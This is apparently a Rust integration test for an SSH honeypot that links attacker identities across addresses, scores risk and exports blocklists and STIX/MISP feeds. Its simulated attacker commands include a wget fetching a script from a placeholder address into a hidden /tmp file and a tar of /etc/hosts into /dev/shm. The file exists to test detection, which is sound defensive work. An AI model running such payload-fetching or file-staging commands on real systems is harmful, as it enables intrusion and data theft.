//! Who is behind an address: two hosts that greet differently, one of which comes back from elsewhere.

use crate::{
    client_ssh::ssh_with,
    fleet::{Fleet, have},
};
use serde_json::Value;
use std::{
    thread::sleep,
    time::{Duration, Instant},
};

const HERE: &str = "127.66.0.1";
const OTHER: &str = "127.66.0.2";
const ELSEWHERE: &str = "127.66.0.3";
/// Longest wait for what workers make of events.
const PATIENCE: Duration = Duration::from_secs(40);

/// What he does wherever he comes from.
const OWN: &[&str] = &[
    "wget http://198.51.100.77/kestrel.sh -O /tmp/.kestrel",
    "echo kestrel-feeds-at-dawn > /var/tmp/.k; cat /var/tmp/.k",
    "for u in kestrel merlin; do id $u; done",
];
/// What somebody else does.
const OTHERS: &[&str] =
    &["tar czf /dev/shm/plover.tgz /etc/hosts", "echo plover-counts-eggs >> /tmp/plover.log"];

/// Says commands from an address; with `odd`, by a client that greets in its own way.
fn visit(fleet: &Fleet, from: &str, odd: bool, commands: &[&str]) {
    for command in commands {
        let mut options = vec!["-b", from];
        if odd {
            options.extend([
                "-c",
                "aes128-ctr",
                "-m",
                "hmac-sha2-256",
                "-o",
                "KexAlgorithms=curve25519-sha256",
            ]);
        }
        ssh_with(fleet, &options, command);
    }
}

/// What a command prints as JSON, as soon as it is as it should be.
fn wait(fleet: &Fleet, arguments: &[&str], is_right: impl Fn(&Value) -> bool) -> Value {
    let end = Instant::now() + PATIENCE;
    loop {
        let output = fleet.command(arguments);
        let found: Option<Value> = serde_json::from_slice(&output.stdout).ok();
        match found {
            Some(found) if is_right(&found) => return found,
            last => assert!(Instant::now() < end, "{arguments:?}: {last:?} {output:?}"),
        }
        sleep(Duration::from_millis(300));
    }
}

fn addresses(identity: &Value) -> Vec<&str> {
    identity["sources"].as_array().into_iter().flatten().filter_map(|one| one["src_ip"].as_str()).collect()
}

#[test]
fn who_comes_back_from_elsewhere_is_known_and_somebody_else_is_not_he() {
    if !have("sshpass", "sshpass") {
        return;
    }
    let fleet = Fleet::deploy(66, "accept-after=1");
    visit(&fleet, HERE, false, OWN);
    visit(&fleet, OTHER, true, OTHERS);
    visit(&fleet, ELSEWHERE, false, OWN);
    let show = ["identities", "show", HERE, "--json"];
    let identity = wait(&fleet, &show, |found| addresses(found).len() == 2);
    assert_eq!(addresses(&identity), [HERE, ELSEWHERE]);
    let because = identity["links"][0]["because"].as_str().unwrap();
    for word in ["the same actor", "command line", "host that something was to be fetched from"] {
        assert!(because.contains(word), "{word} is not in {because}");
    }
    let kinds = identity["links"][0]["evidence"].to_string();
    assert!(kinds.contains("\"ssh\""), "{kinds}");
    let told = fleet.run(&["identities", "explain", HERE, OTHER]);
    assert!(told.contains("too little for the same actor") || told.contains("nothing that tells"), "{told}");
    profile(&fleet);
    exported(&fleet);
    decided(&fleet, &identity);
}

/// What is said of the one who was here.
fn profile(fleet: &Fleet) {
    let of = ["attackers", "show", HERE, "--json"];
    let profile =
        wait(fleet, &of, |found| found["commanded"].as_u64() >= Some(3) && found["identity"].is_i64());
    let sum: i64 =
        profile["risk_terms"].as_array().unwrap().iter().filter_map(|term| term["points"].as_i64()).sum();
    assert_eq!(profile["risk"].as_i64(), Some(sum), "{profile}");
    assert!(profile["phase"] == "action" || profile["phase"] == "exfil", "{profile}");
    assert!(profile["tools"].as_array().unwrap().iter().any(|tool| tool["name"] == "OpenSSH"), "{profile}");
    assert!(profile["urls"][0].as_str().unwrap().contains("198.51.100.77"), "{profile}");
    let reused: Value = serde_json::from_str(&fleet.run(&["reuse", "list", "--json"])).unwrap();
    let toor = reused.as_array().unwrap().iter().find(|one| one["secret"] == "toor");
    let toor = toor.unwrap_or_else(|| panic!("{reused}"));
    assert_eq!((toor["attackers"].as_i64(), toor["listed"].as_str()), (Some(3), Some("common")));
}

/// What others are told of him: loopback is not routed, so it is for blocking only where that is asked for.
fn exported(fleet: &Fleet) {
    let list = ["export", "blocklist", "--format", "plain"];
    assert_eq!(fleet.run(&list), "");
    let told = fleet.run(&["export", "blocklist", "--format", "plain", "--private", "--min-risk", "10"]);
    assert!(
        [HERE, OTHER, ELSEWHERE].iter().all(|address| told.lines().any(|line| line == *address)),
        "{told}"
    );
    let bundle: Value = serde_json::from_str(&fleet.run(&["export", "stix", "--private"])).unwrap();
    let objects = bundle["objects"].as_array().unwrap();
    for kind in ["indicator", "attack-pattern", "threat-actor", "user-account", "sighting"] {
        assert!(objects.iter().any(|object| object["type"] == kind), "{kind}");
    }
    let names = fleet.run(&["status", "--json"]);
    let names: Value = serde_json::from_str(&names).unwrap();
    for decky in names["deckies"].as_array().into_iter().flatten().filter_map(|decky| decky["name"].as_str())
    {
        assert!(!bundle.to_string().contains(decky), "{decky} is told of");
    }
    let folder = fleet.state().join("feed");
    let feed = ["export", "misp", "--feed", folder.to_str().unwrap()];
    let files = || {
        let entries = std::fs::read_dir(&folder).unwrap();
        let mut names: Vec<_> = entries.map(|entry| entry.unwrap().file_name()).collect();
        names.sort();
        names
    };
    fleet.run(&feed);
    let first = files();
    assert!(first.len() > 2 && first.iter().any(|name| name == "manifest.json"), "{first:?}");
    fleet.run(&feed);
    assert_eq!(files(), first);
    let file = folder.join("manifest.json");
    let in_the_way = fleet.command(&["export", "stix", "--to", file.to_str().unwrap()]);
    let said = String::from_utf8_lossy(&in_the_way.stderr).into_owned();
    assert!(in_the_way.status.code() == Some(1) && said.contains("--force"), "{said}");
    assert_eq!(fleet.command(&["export", "stix", "--tlp", "white"]).status.code(), Some(64));
}

/// An analyst says otherwise, and takes it back.
fn decided(fleet: &Fleet, identity: &Value) {
    let id = identity["id"].to_string();
    fleet.run(&["identities", "split", &id, ELSEWHERE, "--reason", "our own test"]);
    let show = ["identities", "show", HERE, "--json"];
    wait(fleet, &show, |found| addresses(found) == [HERE]);
    let decisions: Value = serde_json::from_str(&fleet.run(&["identities", "decisions", "--json"])).unwrap();
    assert_eq!(
        (decisions[0]["deed"].as_str(), decisions[0]["reason"].as_str()),
        (Some("split"), Some("our own test"))
    );
    fleet.run(&["identities", "undo", &decisions[0]["id"].to_string()]);
    wait(fleet, &show, |found| addresses(found).len() == 2);
    let output = fleet.command(&["identities", "merge", &id, "99999999"]);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!output.status.success() && said.contains("there is no identity 99999999"), "{said}");
}
